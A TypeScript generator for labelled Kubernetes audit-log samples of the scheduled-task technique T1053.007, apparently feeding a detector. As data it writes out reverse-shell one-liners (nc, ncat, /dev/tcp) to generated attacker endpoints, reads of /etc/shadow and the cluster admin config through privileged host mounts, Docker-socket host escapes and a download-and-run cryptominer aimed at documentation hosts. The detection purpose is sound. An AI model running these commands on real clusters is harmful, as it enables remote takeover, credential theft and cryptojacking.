/**
 * `atomic.*`: the four Atomic-style attacks of the Sentinel seed (logformats.md §6.3; written
 * from the seed's description — they are not published Atomic Red Team tests) and the two real
 * Atomic Red Team T1053.007 tests (§6.2). All T1053.007, all malicious, on every step of the
 * controller cascade. Payloads use documentation IPs and domains; nothing here is a working payload.
 */
import { command } from '../command.js'
import { container } from '../container.js'
import { securityContext } from '../securityContext.js'
import { cronJob } from '../cronJob.js'
import { job } from '../job.js'
import { namespace } from '../namespace.js'
import { objectName } from '../objectName.js'
import { podSpec } from '../podSpec.js'
import { schedule } from '../schedule.js'
import { attackerEndpoint, caller, kubectlCaller, simpleRequest, writeScenario } from '../_internals/scenario.js'
import { chars, constant, constantFrom, record, tuple, weighted, type Gen } from '../_internals/gen.js'
import type { Outcome } from '../types.js'
import { cascadeSteps, defineFamily, type Family } from './family.js'

const T = 'T1053.007'

/** Mostly a human with kubectl; sometimes a stolen service-account token. */
const attacker = weighted([3, caller('human')], [1, caller('compromised-sa')])

/** Mostly allowed; some attempts are refused by RBAC or Pod Security admission. */
function attackOutcome(admission: boolean): Gen<Outcome> {
  return weighted<Outcome>([18, constant({ code: 201 })], [1, constant({ code: 403, deniedBy: 'rbac' })], [admission ? 1 : 0, constant({ code: 403, deniedBy: 'admission' })])
}

const ns = weighted([3, constant('default')], [1, namespace({ kind: 'app' })])

const reverseShellScript: Gen<string> = tuple(attackerEndpoint, constantFrom('nc', 'nc-fifo', 'ncat', 'bash-tcp', 'sh-tcp', 'apk-nc')).map(([{ host, port }, kind]) => {
  switch (kind) {
    case 'nc':
      return `nc ${host} ${port} -e /bin/sh`
    case 'nc-fifo':
      return `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} ${port} > /tmp/f`
    case 'ncat':
      return `ncat ${host} ${port} -e /bin/sh`
    case 'bash-tcp':
      return `bash -i >& /dev/tcp/${host}/${port} 0>&1`
    case 'sh-tcp':
      return `sh -i >& /dev/tcp/${host}/${port} 0>&1`
    default:
      return `apk add --no-cache netcat-openbsd && nc ${host} ${port} -e /bin/sh`
  }
})

export const reverseShellCronJob: Family = defineFamily({
  name: 'atomic.reverse-shell-cronjob',
  description: 'Seed 1: CronJob (alpine, /bin/sh -c) running an nc / ncat / bash /dev/tcp reverse shell, then the Job and Pod the controllers create.',
  labels: { malicious: true, technique: T, atomic: 'seed:1-reverse-shell-cronjob' },
  steps: cascadeSteps('atomic.reverse-shell-cronjob', 'cronjobs', { denied: true }),
  weight: 3,
  scenario: writeScenario({
    family: 'atomic.reverse-shell-cronjob',
    resource: 'cronjobs',
    caller: attacker,
    outcome: attackOutcome(false),
    cascade: true,
    deniedStep: true,
    commandInvoke: 0.1,
    patchChance: 0.15,
    object: cronJob({
      name: weighted([2, constant('argus-test-cronjob')], [1, objectName()]),
      namespace: ns,
      schedule: constantFrom('*/1 * * * *', '*/5 * * * *', '* * * * *', '*/2 * * * *'),
      podSpec: podSpec({
        restartPolicy: constantFrom<'OnFailure' | 'Never'>('OnFailure', 'Never'),
        containers: container({
          name: constantFrom('shell', 'main', 'argus', 'job'),
          image: weighted([4, constant('alpine:latest')], [1, constantFrom('alpine', 'alpine:3.20', 'busybox:latest')]),
          command: command({ script: reverseShellScript, shells: ['/bin/sh', 'sh'] }),
        }).map((c) => [c]),
      }),
    }),
  }),
})

function hostEtcScript(mnt: string): Gen<string> {
  return chars('abcdefghijklmnopqrstuvwxyz', 6).bind((word) =>
    constantFrom(
      `cat ${mnt}/shadow`,
      `cat ${mnt}/shadow ${mnt}/passwd; sleep 3600`,
      `echo '* * * * * root /bin/sh -c "id > /tmp/${word}"' > ${mnt}/cron.d/${word}`,
      `ls -la ${mnt}/kubernetes; cat ${mnt}/kubernetes/admin.conf`,
      `cp ${mnt}/shadow /tmp/${word} && sleep 600`,
    ),
  )
}

export const privilegedHostPathJob: Family = defineFamily({
  name: 'atomic.privileged-hostpath-job',
  description: "Seed 2: privileged Job (busybox) mounting the node's /etc through hostPath, then the job-controller's Pod.",
  labels: { malicious: true, technique: T, atomic: 'seed:2-privileged-hostpath-job' },
  steps: cascadeSteps('atomic.privileged-hostpath-job', 'jobs', { denied: true }),
  weight: 3,
  scenario: writeScenario({
    family: 'atomic.privileged-hostpath-job',
    resource: 'jobs',
    caller: attacker,
    outcome: attackOutcome(true),
    cascade: true,
    deniedStep: true,
    commandInvoke: 0.1,
    object: record({ mountPath: constantFrom('/host/etc', '/mnt/etc', '/host'), type: constantFrom(undefined, 'Directory') }).bind(({ mountPath, type }) =>
      job({
        name: weighted([2, constant('etc-reader')], [1, objectName()]),
        namespace: ns,
        backoffLimit: constantFrom(0, 1),
        ttlSecondsAfterFinished: constant(undefined),
        podSpec: podSpec({
          restartPolicy: 'Never',
          volumes: [{ name: 'host-etc', hostPath: { path: '/etc', ...(type ? { type } : {}) } }],
          hostPID: weighted([3, constant(undefined)], [1, constant(true)]),
          containers: container({
            name: constantFrom('reader', 'main', 'busybox'),
            image: weighted([4, constant('busybox:latest')], [1, constantFrom('busybox', 'busybox:1.36')]),
            securityContext: securityContext({ kind: 'privileged' }),
            volumeMounts: [{ name: 'host-etc', mountPath }],
            command: command({ script: hostEtcScript(mountPath) }),
          }).map((c) => [c]),
        }),
      }),
    ),
  }),
})

const dockerSocketScript: Gen<string> = constantFrom(
  'docker run --rm --privileged --pid=host -v /:/host alpine chroot /host sh -c "id"',
  'docker -H unix:///var/run/docker.sock run -d --privileged -v /:/mnt alpine sleep 86400',
  'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json',
  'docker ps; docker exec $(docker ps -q | head -1) cat /etc/shadow',
)

export const dockerSocketCronJob: Family = defineFamily({
  name: 'atomic.docker-socket-cronjob',
  description: 'Seed 3: CronJob on */5 * * * * mounting /var/run/docker.sock (hostPath) to drive the node runtime, then its Job and Pod.',
  labels: { malicious: true, technique: T, atomic: 'seed:3-docker-socket-cronjob' },
  steps: cascadeSteps('atomic.docker-socket-cronjob', 'cronjobs', { denied: true }),
  weight: 2,
  scenario: writeScenario({
    family: 'atomic.docker-socket-cronjob',
    resource: 'cronjobs',
    caller: attacker,
    outcome: attackOutcome(true),
    cascade: true,
    deniedStep: true,
    commandInvoke: 0.1,
    object: constantFrom(undefined, 'Socket').bind((type) =>
      cronJob({
        namespace: ns,
        schedule: '*/5 * * * *',
        podSpec: podSpec({
          restartPolicy: 'OnFailure',
          volumes: [{ name: 'docker-sock', hostPath: { path: '/var/run/docker.sock', ...(type ? { type } : {}) } }],
          containers: container({
            image: weighted([3, constantFrom('docker:cli', 'docker:27-cli')], [1, constantFrom('alpine:latest', 'curlimages/curl:8.10.1')]),
            volumeMounts: [{ name: 'docker-sock', mountPath: '/var/run/docker.sock' }],
            command: command({ script: dockerSocketScript }),
          }).map((c) => [c]),
        }),
      }),
    ),
  }),
})

const minerScript: Gen<string> = tuple(
  constantFrom('https://downloads.example.net/xmrig', 'https://cdn.example.org/bin/kswapd0', 'http://203.0.113.77/x'),
  constantFrom('/tmp/x', '/tmp/kswapd0', '/usr/local/bin/sysupdate'),
  constantFrom('pool.example.net:3333', 'stratum+tcp://mine.example.org:4444', '198.51.100.9:5555'),
  chars('0123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz', 32),
  constantFrom(true, false),
).map(([url, bin, pool, wallet, install]) => {
  const run = `curl -sL -o ${bin} ${url} && chmod +x ${bin} && ${bin} -o ${pool} -u 4${wallet} --donate-level 1`
  return install ? `apt-get update && apt-get install -y curl && ${run}` : run
})

export const cryptominerCronJob: Family = defineFamily({
  name: 'atomic.cryptominer-cronjob',
  description: 'Seed 4: CronJob (ubuntu:20.04) downloading a binary with curl, chmod +x and running it (cryptomining), then its Job and Pod.',
  labels: { malicious: true, technique: T, atomic: 'seed:4-cryptominer-cronjob' },
  steps: cascadeSteps('atomic.cryptominer-cronjob', 'cronjobs', { denied: true }),
  weight: 3,
  scenario: writeScenario({
    family: 'atomic.cryptominer-cronjob',
    resource: 'cronjobs',
    caller: attacker,
    outcome: attackOutcome(false),
    cascade: true,
    deniedStep: true,
    commandInvoke: 0.1,
    patchChance: 0.15,
    object: cronJob({
      namespace: ns,
      schedule: schedule(),
      concurrencyPolicy: constantFrom<'Forbid' | 'Allow' | undefined>('Forbid', 'Allow', undefined),
      podSpec: podSpec({
        restartPolicy: 'OnFailure',
        containers: container({
          name: constantFrom('miner', 'worker', 'updater', 'main'),
          image: weighted([5, constant('ubuntu:20.04')], [1, constant('ubuntu:22.04')]),
          command: command({ script: minerScript, shells: ['/bin/bash', '/bin/sh'] }),
          resourcesChance: 0.5,
        }).map((c) => [c]),
      }),
    }),
  }),
})

export const artListCronJobs: Family = defineFamily({
  name: 'atomic.art-list-cronjobs',
  description: 'Atomic Red Team T1053.007 test 1 (ListCronjobs): `kubectl get cronjobs -n <namespace>`.',
  labels: { malicious: true, technique: T, atomic: 'art:ddfb0bc1-3c3f-47e9-a298-550ecfefacbd' },
  steps: ['atomic.art-list-cronjobs', 'atomic.art-list-cronjobs.denied'],
  weight: 1,
  scenario: simpleRequest({
    family: 'atomic.art-list-cronjobs',
    deniedStep: true,
    verb: constant('list'),
    resource: constant('cronjobs'),
    namespace: ns,
    name: constant(''),
    caller: kubectlCaller(),
    outcome: () => weighted<Outcome>([9, constant({ code: 200 })], [1, constant({ code: 403, deniedBy: 'rbac' })]),
  }),
})

/** The ART manifest `src/cronjob.yaml` (paraphrased): CronJob `art`, every minute, busybox:stable printing the date and a greeting. */
function artCronJob(apiVersion: string) {
  return cronJob({
    name: 'art',
    namespace: ns,
    schedule: '*/1 * * * *',
    labels: constant(undefined),
    concurrencyPolicy: constant(undefined),
    backoffLimit: constant(undefined),
    apiVersion,
    podSpec: podSpec({
      restartPolicy: 'OnFailure',
      containers: container({
        name: 'hello',
        image: 'busybox:stable',
        command: { command: ['/bin/sh', '-c', 'date; echo Hello from the Kubernetes cluster'] },
        resourcesChance: 0,
      }).map((c) => [{ ...c, imagePullPolicy: 'IfNotPresent' }]),
    }),
  })
}

export const artCreateCronJob: Family = defineFamily({
  name: 'atomic.art-create-cronjob',
  description:
    'Atomic Red Team T1053.007 test 2 (CreateCronjob): the busybox CronJob `art` sent as batch/v1beta1, which current clusters answer with 404; sometimes the manifest bumped to batch/v1 (created, then the cascade).',
  labels: { malicious: true, technique: T, atomic: 'art:f2fa019e-fb2a-4d28-9dc6-fd1a9b7f68c3' },
  steps: cascadeSteps('atomic.art-create-cronjob', 'cronjobs'),
  weight: 1,
  scenario: weighted(
    [
      3,
      writeScenario({
        family: 'atomic.art-create-cronjob',
        resource: 'cronjobs',
        apiVersion: 'v1beta1',
        body: false,
        caller: kubectlCaller(),
        outcome: constant<Outcome>({ code: 404, message: 'the server could not find the requested resource' }),
        object: artCronJob('batch/v1beta1'),
      }),
    ],
    [
      1,
      writeScenario({
        family: 'atomic.art-create-cronjob',
        resource: 'cronjobs',
        caller: kubectlCaller(),
        cascade: true,
        object: artCronJob('batch/v1'),
      }),
    ],
  ),
})

export const atomicFamilies: readonly Family[] = [reverseShellCronJob, privilegedHostPathJob, dockerSocketCronJob, cryptominerCronJob, artListCronJobs, artCreateCronJob]
